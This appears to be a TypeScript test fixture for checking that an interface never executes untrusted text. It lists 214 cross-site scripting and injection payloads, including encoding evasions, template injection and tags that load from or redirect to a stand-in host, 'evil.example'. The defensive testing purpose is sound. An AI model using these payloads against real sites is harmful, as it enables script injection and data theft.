/** Runs when a payload does; nothing on any screen may ever set it. */
const RUN = 'globalThis.__ran=1';
const AWAY = 'https://evil.example/taken';

const SINKS = [
  `<script>${RUN}</script>`,
  `<script src="${AWAY}"></script>`,
  `<script type="module">${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext><script>${RUN}</script></mtext></math>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__ran=1"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="data:text/html,<script>parent.__ran=1</script>">`,
  `<base href="${AWAY}/">`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  `<link rel="stylesheet" href="${AWAY}.css">`,
  `<style>@import '${AWAY}.css';*{background:url(${AWAY})}</style>`,
  `<form action="${AWAY}"><button autofocus onfocus="${RUN}">x</button></form>`,
  `<img src="${AWAY}.png">`,
  `<img srcset="${AWAY}.png 1x">`,
  `<video poster="${AWAY}.png"><source src="${AWAY}.mp4"></video>`,
  `<audio src="${AWAY}.mp3" autoplay></audio>`,
  `<div style="background:url(${AWAY})">x</div>`,
  `<table background="${AWAY}"><td>x</table>`,
  `<portal src="${AWAY}"></portal>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea autofocus onfocus="${RUN}"></textarea>`,
  `</textarea><img src=x onerror=${RUN}>`,
  `</title><img src=x onerror=${RUN}>`,
  `</style><img src=x onerror=${RUN}>`,
  `--><img src=x onerror=${RUN}>`,
  `]]><img src=x onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `\`><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus tabindex=1 x='`,
  `<a href="javascript:${RUN}">clique</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">clique</a>`,
  `[clique](javascript:${RUN})`,
  `[clique](data:text/html;base64,PHNjcmlwdD4x)`,
  `![x](${AWAY}.png)`,
  `[x]: ${AWAY}`,
  `javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  AWAY,
  `//evil.example/taken`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `$t(common:cancel) {{name}} $t(../../x)`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `%3Cimg%20src%3Dx%20onerror%3D${RUN}%3E`,
  `<\u200bimg src=x onerror=${RUN}>`,
  `＜img src=x onerror=${RUN}＞`,
  `\u202e<img src=x onerror=${RUN}>\u202c`,
  `{"__proto__":{"__ran":1}}`,
  `<x contenteditable onblur=${RUN}>x</x>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input type=image src=x onerror=${RUN}>`,
  `<set attributeName="onload" to="${RUN}">`,
  `<use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  `<animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<foreignObject><img src=x onerror=${RUN}></foreignObject>`,
  `<div is="x" onclick=${RUN}>x</div>`,
  `<img src=x onerror=&#97;lert(1)>`,
];

/** Every element that can run something by itself, with every handler that runs without a hand. */
const ELEMENTS = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'input autofocus'];
const HANDLERS = ['onerror', 'onload', 'onfocus', 'onloadstart', 'onanimationstart', 'onpageshow'];
const SPACES = [' ', '/', '\n', '\f'];

/** 214 texts, each of which would run, load or lead away if a screen took it for more than a text. */
export const PAYLOADS: readonly string[] = [
  ...SINKS,
  ...ELEMENTS.flatMap((element) =>
    HANDLERS.flatMap((handler) =>
      SPACES.map((space) => `<${element}${space}${handler}="${RUN};alert(1)">`),
    ),
  ),
];

/** Gives the next `count` payloads, the first again after the last. */
export function payloadWheel(): (count: number) => string {
  let at = 0;
  return (count) => Array.from({ length: count }, () => PAYLOADS[at++ % PAYLOADS.length]).join(' ');
}
